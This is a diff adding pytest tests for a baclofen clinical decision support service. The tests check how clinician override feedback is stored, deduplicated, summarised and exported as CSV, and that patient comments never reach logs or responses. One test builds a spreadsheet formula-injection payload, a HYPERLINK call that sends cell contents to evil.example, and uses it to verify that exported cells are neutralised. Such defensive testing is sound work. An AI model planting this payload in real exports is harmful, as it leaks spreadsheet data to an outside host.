@@ -1,0 +1,424 @@
+"""Feedback from any client is stored once and counted for its rule; comments are kept apart and shown nowhere."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import logging
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import structlog
+from flask import Flask, Response, jsonify, request
+from flask.testing import FlaskClient
+from hypothesis import given
+from hypothesis import strategies as st
+
+from baclofen_safety.assessor import Assessor
+from baclofen_safety.cdshooks.card_ids import card_uuid, suggestion_uuid
+from baclofen_safety.cdshooks.feedback import feedback_taker, rule_of_card
+from baclofen_safety.cdshooks.feedback_figures import COLUMNS, harmless, summary
+from baclofen_safety.cdshooks.schemas_feedback import EPIC, read_batch
+from baclofen_safety.cdshooks.services import load_services
+from baclofen_safety.errors import BadInput
+from baclofen_safety.fhir.resources import check_output
+from baclofen_safety.store.sql import SqlStore
+from baclofen_safety.web.errors import answer_errors
+from baclofen_safety.web.feedback import feedback_door
+
+NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
+TIME = "2026-03-02T09:29:00Z"
+FIRST, SECOND = "d1577c69-dfbe-44ad-ba6d-3e05e953b2ea", "0a3b9d2c-5c7e-4a51-9a5e-4d1f2f0d9b11"
+RENAL, STOP = "BAC-RENAL-04", "BAC-WD-01"
+SYSTEM = "http://terminology.hl7.org/CodeSystem/non-adherence-reason-codes"
+SECRET = "Mrs Secret, born 1950-01-01"
+SIGN = "/cds-services/baclofen-order-sign/feedback"
+SERVICES = load_services()
+
+
+@pytest.fixture(params=["file", "memory"])
+def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[SqlStore]:
+    opened = SqlStore(f"sqlite:///{tmp_path / 'kept.db'}" if request.param == "file" else "", lambda: NOW)
+    yield opened
+    opened.close()
+
+
+@pytest.fixture
+def client(store: SqlStore, assessor: Assessor) -> FlaskClient:
+    """The door of the figures, and a bare one for feedback."""
+    app = Flask("feedback")
+    answer_errors(app)
+    app.register_blueprint(feedback_door(store, assessor.book))
+    take = feedback_taker(store, tuple(assessor.book.sheets))
+
+    @app.post("/cds-services/<name>/feedback")
+    def post(name: str) -> Response:
+        return jsonify(new=take(SERVICES[name], request.get_json(), "ward", NOW))
+
+    return app.test_client()
+
+
+def accepted(rule: str = RENAL, instance: str = FIRST, **more: Any) -> dict[str, Any]:
+    chosen = [{"id": suggestion_uuid(instance, rule, "cap")}]
+    card = card_uuid(instance, rule)
+    return {"card": card, "outcome": "accepted", "outcomeTimestamp": TIME, "acceptedSuggestions": chosen, **more}
+
+
+def overridden(rule: str = RENAL, instance: str = FIRST, **more: Any) -> dict[str, Any]:
+    return {"card": card_uuid(instance, rule), "outcome": "overridden", "outcomeTimestamp": TIME, **more}
+
+
+def because(code: str, **more: Any) -> dict[str, Any]:
+    return {"overrideReason": {"reason": {"code": code, "system": SYSTEM}, **more}}
+
+
+def send(client: FlaskClient, *items: Any, to: str = SIGN) -> int:
+    answer = client.post(to, json={"feedback": list(items)})
+    assert answer.status_code == 200, answer.text
+    return int(answer.json["new"])
+
+
+def figures(client: FlaskClient) -> dict[str | None, dict[str, Any]]:
+    return {one["rule"]: one for one in client.get("/feedback/summary").json["rules"]}
+
+
+def test_rules_of_these_tests_exist(assessor: Assessor) -> None:
+    assert {RENAL, STOP} <= set(assessor.book.sheets)
+    assert rule_of_card(card_uuid(FIRST, STOP), assessor.book.sheets) == STOP
+
+
+def test_a_batch_mixes_instances_rules_and_outcomes(client: FlaskClient, assessor: Assessor) -> None:
+    items = [accepted(), overridden(instance=SECOND, **because("risk-benefit-ratio")), overridden(STOP)]
+    assert send(client, *items) == 3
+    assert send(client, overridden(), to=SIGN.replace("order-sign", "patient-view")) == 1
+    found = figures(client)
+    assert list(found) == sorted(found, key=list(assessor.book.sheets).index)
+    assert found[RENAL] == {
+        "rule": RENAL,
+        "title": assessor.book.sheets[RENAL].title,
+        "accepted": 1,
+        "overridden": 2,
+        "acceptance": 0.333,
+        "unexplained": 1,
+        "reasons": [{"system": SYSTEM, "code": "risk-benefit-ratio", "display": "", "count": 1}],
+        "services": [
+            {"service": "baclofen-order-sign", "accepted": 1, "overridden": 1, "acceptance": 0.5, "unexplained": 0},
+            {"service": "baclofen-patient-view", "accepted": 0, "overridden": 1, "acceptance": 0.0, "unexplained": 1},
+        ],
+    }
+    assert found[STOP]["unexplained"] == 1
+
+
+def test_repeated_cards_count_once(client: FlaskClient) -> None:
+    items = [accepted(), overridden(STOP, **because("need-more-info"))]
+    assert send(client, *items, *items) == 2
+    before = client.get("/feedback/summary").json
+    upper = {**items[0], "card": items[0]["card"].upper(), "outcomeTimestamp": "2026-03-02T10:29:00.000+01:00"}
+    assert send(client, *items, upper) == 0
+    assert client.get("/feedback/summary").json == before
+
+
+def test_the_same_card_later_counts_again(client: FlaskClient) -> None:
+    assert send(client, overridden(), overridden(outcomeTimestamp="2026-03-02T09:29:01Z"), accepted()) == 3
+
+
+EPIC_REASON = {
+    f"{EPIC}.reasonCategory": "45",
+    f"{EPIC}.reasonDisplay": "Does not meet criteria",
+    f"{EPIC}.reasonTitle": "Criteria",
+}
+
+
+@pytest.mark.parametrize(
+    ("told", "system", "code", "display"),
+    [
+        (because("a"), SYSTEM, "a", ""),
+        (because("a", userComment=SECRET), SYSTEM, "a", ""),
+        ({"overrideReasons": because("a")["overrideReason"]}, SYSTEM, "a", ""),
+        ({"overrideReasons": [because("a")["overrideReason"]]}, SYSTEM, "a", ""),
+        ({"overrideReason": {"reason": [{"code": "a", "system": SYSTEM}]}}, SYSTEM, "a", ""),
+        ({"overrideReason": {"reason": {"code": "a", "system": ""}}}, "", "a", ""),
+        ({"overrideReason": {"reason": {"code": "a", "display": "Words"}}}, "", "a", "Words"),
+        ({"overrideReason": {"reason": {"display": "Words only"}}}, "", "Words only", "Words only"),
+        ({"overrideReasons": {"extension": EPIC_REASON}}, EPIC, "45", "Does not meet criteria"),
+        ({"overrideReasons": {"extension": EPIC_REASON, "userComment": SECRET}}, EPIC, "45", "Does not meet criteria"),
+        ({"overrideReason": {"extension": {f"{EPIC}.reasonCategory": 45}}}, EPIC, "45", ""),
+        ({"overrideReasons": {"extension": {f"{EPIC}.reasonTitle": "Criteria"}}}, EPIC, "Criteria", "Criteria"),
+        ({**because("a"), "overrideReasons": {"extension": {"other": {}}}}, SYSTEM, "a", ""),
+        ({"overrideReasons": {**because("a")["overrideReason"], "extension": EPIC_REASON}}, SYSTEM, "a", ""),
+    ],
+)
+def test_every_way_to_say_why(client: FlaskClient, told: dict[str, Any], system: str, code: str, display: str) -> None:
+    assert send(client, overridden(**told)) == 1
+    (reason,) = figures(client)[RENAL]["reasons"]
+    assert reason == {"system": system, "code": code, "display": display, "count": 1}
+    assert figures(client)[RENAL]["unexplained"] == 0
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        {},
+        {"overrideReason": None},
+        {"overrideReason": {}},
+        {"overrideReasons": []},
+        {"overrideReason": {"reason": None, "userComment": ""}},
+        {"overrideReason": {"userComment": SECRET}},
+        {"overrideReason": {"reason": {"code": "", "system": ""}, "userComment": None}},
+        {"overrideReason": {"extension": {f"{EPIC}.reasonCategory": None}}},
+        {"overrideReason": {"extension": []}},
+    ],
+)
+def test_an_override_without_reason_counts_as_unexplained(client: FlaskClient, told: dict[str, Any]) -> None:
+    assert send(client, overridden(**told)) == 1
+    assert figures(client)[RENAL]["unexplained"] == 1
+
+
+def test_unknown_fields_and_cards_of_others_are_accepted(client: FlaskClient) -> None:
+    extra = {"extension": {"com.example.x": [1]}, "cardSource": None, "acceptedSuggestions": []}
+    epic_card = {"card": "123456", "outcome": "overridden", "outcomeTimestamp": "2022-05-19T19:44:04Z"}
+    answer = client.post(SIGN, json={"feedback": [overridden(**extra), epic_card], "extension": {"a": 1}, "more": 2})
+    assert answer.json == {"new": 2}
+    found = figures(client)
+    assert (found[RENAL]["overridden"], found[None]["overridden"], found[None]["title"]) == (1, 1, "")
+    assert list(found) == [RENAL, None]
+
+
+def test_a_topic_that_is_no_rule_is_counted_after_the_rules(store: SqlStore, assessor: Assessor) -> None:
+    take = feedback_taker(store, (*assessor.book.sheets, "not-checked"))
+    service = SERVICES["baclofen-order-sign"]
+    items = [overridden("not-checked"), overridden(), {**overridden(), "card": FIRST}]
+    assert take(service, {"feedback": items}, "ward", NOW) == 3
+    assert [one.rule for one in summary(store, assessor.book)] == [RENAL, "not-checked", None]
+
+
+def test_another_client_is_another_feedback(store: SqlStore, assessor: Assessor) -> None:
+    take = feedback_taker(store, tuple(assessor.book.sheets))
+    new = [take(SERVICES["baclofen-order-sign"], {"feedback": [accepted()]}, name, NOW) for name in ("a", "b", "a")]
+    assert new == [1, 1, 0]
+
+
+BAD = [
+    (None, [""]),
+    ("text", [""]),
+    ([], [""]),
+    ({}, [".card", ".outcome", ".outcomeTimestamp"]),
+    (overridden(card=""), [".card"]),
+    (overridden(card=None), [".card"]),
+    (overridden(card={"a": SECRET}), [".card"]),
+    (overridden(card="x" * 201), [".card"]),
+    (overridden(outcome="ignored"), [".outcome"]),
+    (overridden(outcome=["overridden"]), [".outcome"]),
+    (overridden(outcomeTimestamp="yesterday"), [".outcomeTimestamp"]),
+    (overridden(outcomeTimestamp="2026-03-02"), [".outcomeTimestamp"]),
+    (overridden(outcomeTimestamp="2026-02-30T00:00:00Z"), [".outcomeTimestamp"]),
+    (overridden(outcomeTimestamp=1772443740), [".outcomeTimestamp"]),
+    (overridden(outcomeTimestamp="0001-01-01T00:00:00+14:00"), [".outcomeTimestamp"]),
+    (accepted(acceptedSuggestions=[]), [".acceptedSuggestions"]),
+    (accepted(acceptedSuggestions=None), [".acceptedSuggestions"]),
+    (accepted(acceptedSuggestions=[{"id": "a"}, {"uuid": SECRET}]), [".acceptedSuggestions[1].id"]),
+    (overridden(overrideReason=SECRET), [".overrideReason"]),
+    (overridden(overrideReasons=[{"reason": SECRET}]), [".overrideReasons.reason"]),
+    (overridden(overrideReason={"reason": {"code": {"a": SECRET}}}), [".overrideReason.reason.code"]),
+    (overridden(overrideReason={"reason": {"code": "x" * 129}}), [".overrideReason.reason.code"]),
+    (overridden(overrideReason={"userComment": SECRET * 1000}), [".overrideReason.userComment"]),
+    (overridden(overrideReason={"userComment": [SECRET]}), [".overrideReason.userComment"]),
+]
+
+
+@pytest.mark.parametrize(("bad", "places"), BAD)
+def test_a_bad_item_is_named_and_the_good_ones_are_stored(client: FlaskClient, bad: Any, places: list[str]) -> None:
+    answer = client.post(SIGN, json={"feedback": [accepted(), bad, overridden(STOP)]})
+    assert answer.status_code == 400
+    assert check_output(answer.json) == ()
+    (issue,) = answer.json["issue"]
+    assert issue["expression"] == [f"feedback[1]{place}" for place in places]
+    assert issue["details"]["text"] == "1 of 3 feedback items could not be read; the others are stored."
+    assert "Secret" not in answer.text
+    assert {rule: one["accepted"] + one["overridden"] for rule, one in figures(client).items()} == {RENAL: 1, STOP: 1}
+
+
+def test_an_error_names_no_more_places_than_anybody_reads(client: FlaskClient) -> None:
+    answer = client.post(SIGN, json={"feedback": [{}] * 200})
+    (issue,) = answer.json["issue"]
+    assert issue["details"]["text"].startswith("200 of 200 ")
+    assert len(issue["expression"]) == 50
+
+
+@pytest.mark.parametrize("document", [None, [], "feedback", {}, {"feedback": None}, {"feedback": {"card": SECRET}}])
+def test_a_document_that_is_no_feedback_is_refused(client: FlaskClient, document: Any) -> None:
+    answer = client.post(SIGN, data=json.dumps(document), content_type="application/json")
+    assert answer.status_code == 400
+    assert answer.json["issue"][0]["expression"] == ["feedback"]
+    assert "Secret" not in answer.text
+
+
+def test_an_empty_batch_is_nothing_new(client: FlaskClient) -> None:
+    assert send(client) == 0
+
+
+ANYTHING = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
+    max_leaves=5,
+)
+FIELDS = ("card", "outcome", "outcomeTimestamp", "acceptedSuggestions", "overrideReason", "overrideReasons")
+
+
+@given(st.sampled_from(FIELDS), ANYTHING)
+def test_whatever_stands_in_a_field_is_read_or_named(name: str, value: Any) -> None:
+    """And never breaks: what is read can be kept, what is not is told at its place."""
+    batch = read_batch({"feedback": [{**accepted(), name: value}, overridden()]})
+    assert len(batch.items) in (1, 2)
+    assert bool(batch.places) == (len(batch.items) == 1)
+    assert all(place.startswith(("feedback[0].acceptedSuggestions", f"feedback[0].{name}")) for place in batch.places)
+
+
+@given(ANYTHING)
+def test_whatever_is_sent_is_read_or_refused(value: Any) -> None:
+    for document in (value, {"feedback": value}, {"feedback": [value]}):
+        try:
+            read_batch(document)
+        except BadInput as error:
+            assert error.expression == ("feedback",)
+
+
+def test_text_no_database_keeps_is_kept_nearly(client: FlaskClient) -> None:
+    assert send(client, overridden(**because("a\0b", userComment="\0\ud800 x"))) == 1
+    assert figures(client)[RENAL]["reasons"][0]["code"] == "a\ufffdb"
+
+
+def test_a_comment_is_in_no_log_and_no_answer(
+    client: FlaskClient,
+    store: SqlStore,
+    caplog: pytest.LogCaptureFixture,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    told = because("a", userComment=SECRET)
+    with structlog.testing.capture_logs() as logs:
+        answers = [
+            client.post(SIGN, json={"feedback": [overridden(**told)]}),
+            client.post(SIGN, json={"feedback": [overridden(**told), overridden(STOP, **told), {"card": SECRET}]}),
+            client.get("/feedback/summary"),
+            client.get("/feedback/summary?format=csv"),
+        ]
+        store.close()
+    assert [answer.status_code for answer in answers] == [200, 400, 200, 200]
+    said = "".join(answer.text for answer in answers) + repr(logs) + caplog.text + "".join(capfd.readouterr())
+    assert "Secret" not in said
+
+
+def test_a_comment_is_not_logged_when_the_store_fails(
+    assessor: Assessor, tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
+    broken = tmp_path / "kept.db"
+    broken.write_text("not a database " * 100)
+    caplog.set_level(logging.DEBUG)
+    app = Flask("feedback")
+    answer_errors(app)
+    store = SqlStore(f"sqlite:///{broken}", lambda: NOW)
+    take = feedback_taker(store, tuple(assessor.book.sheets))
+
+    @app.post(SIGN)
+    def post() -> Response:
+        return jsonify(new=take(SERVICES["baclofen-order-sign"], request.get_json(), "ward", NOW))
+
+    with structlog.testing.capture_logs() as logs:
+        told = because("a", userComment=SECRET)
+        answer = app.test_client().post(SIGN, json={"feedback": [overridden(**told)]})
+    assert answer.status_code == 500
+    assert [line["kind"] for line in logs] == ["StoreError"]
+    assert "Secret" not in answer.text + repr(logs) + caplog.text + "".join(capfd.readouterr())
+
+
+def test_comments_are_kept_and_can_be_forgotten(client: FlaskClient, store: SqlStore) -> None:
+    send(client, overridden(**because("a", userComment=SECRET)), accepted(), overridden(STOP))
+    before = client.get("/feedback/summary").json
+    assert store.forget_comments(NOW) == 0
+    assert store.forget_comments(NOW + timedelta(seconds=1)) == 1
+    assert client.get("/feedback/summary").json == before
+
+
+def test_the_summary_says_where_it_is_kept(client: FlaskClient, store: SqlStore, assessor: Assessor) -> None:
+    told = client.get("/feedback/summary").json
+    assert told["rules"] == []
+    assert told["knowledge"] == assessor.book.version
+    assert told["memoryOnly"] is store.in_memory
+    assert ("in memory only" in told["kept"]) is store.in_memory
+
+
+@pytest.mark.parametrize(
+    ("query", "accept", "media"),
+    [
+        ("", None, "application/json"),
+        ("", "*/*", "application/json"),
+        ("", "text/html", "application/json"),
+        ("", "text/csv", "text/csv"),
+        ("", "text/csv;q=0.5, application/json;q=0.4", "text/csv"),
+        ("", "application/json, text/csv;q=0.4", "application/json"),
+        ("?format=csv", "application/json", "text/csv"),
+        ("?format=json", "text/csv", "application/json"),
+    ],
+)
+def test_json_or_csv_as_asked(client: FlaskClient, query: str, accept: str | None, media: str) -> None:
+    answer = client.get(f"/feedback/summary{query}", headers={"Accept": accept} if accept else {})
+    assert (answer.status_code, answer.mimetype) == (200, media)
+
+
+def test_another_format_is_refused(client: FlaskClient) -> None:
+    answer = client.get("/feedback/summary?format=xlsx")
+    assert answer.status_code == 400
+    assert answer.json["resourceType"] == "OperationOutcome"
+
+
+def rows(client: FlaskClient) -> list[list[str]]:
+    answer = client.get("/feedback/summary?format=csv")
+    assert answer.content_type.startswith("text/csv; charset=utf-8")
+    assert "attachment" in answer.headers["Content-Disposition"]
+    return list(csv.reader(io.StringIO(answer.text, newline=""), strict=True))
+
+
+def test_the_table_says_what_the_json_says(client: FlaskClient, assessor: Assessor) -> None:
+    send(client, accepted(), overridden(**because("a")), overridden(instance=SECOND))
+    head = [RENAL, assessor.book.sheets[RENAL].title, "baclofen-order-sign"]
+    assert rows(client) == [
+        list(COLUMNS),
+        [*head, "accepted", "", "", "", "1"],
+        [*head, "overridden", "", "", "", "2"],
+        [*head, "reason", SYSTEM, "a", "", "1"],
+        [*head, "no-reason", "", "", "", "1"],
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "  =", "＝", "|", "%", "\n-", "\u00a0@"])
+def test_no_cell_is_a_formula(client: FlaskClient, start: str) -> None:
+    cell = f'{start}HYPERLINK("https://evil.example?"&A1,"x")'
+    reason = {"code": cell, "system": cell, "display": cell}
+    send(client, overridden(overrideReason={"reason": reason}))
+    row = rows(client)[-2 if rows(client)[-1][3] == "no-reason" else -1]
+    assert row[3] == "reason"
+    assert all(one.startswith("'") for one in row[4:7])
+    assert [one[1:] for one in row[4:7]] == [cell.strip()] * 3
+
+
+@given(st.text())
+def test_a_harmless_cell_begins_with_no_sign_and_loses_nothing(cell: str) -> None:
+    made = harmless(cell)
+    assert made in (cell, f"'{cell}")
+    assert not made.strip().startswith(("=", "+", "-", "@"))
+
+
+def test_reasons_are_most_frequent_first_under_one_name(client: FlaskClient) -> None:
+    items = [
+        overridden(instance=f"{number}", overrideReason={"reason": {"code": code, "system": SYSTEM, "display": words}})
+        for number, (code, words) in enumerate([("b", ""), ("a", "A"), ("b", "B"), ("c", "C"), ("a", ""), ("b", "")])
+    ]
+    send(client, *items[:3])
+    send(client, *items[3:], to=SIGN.replace("order-sign", "order-select"))
+    told = [(one["code"], one["display"], one["count"]) for one in figures(client)[RENAL]["reasons"]]
+    assert told == [("b", "B", 3), ("a", "A", 2), ("c", "C", 1)]
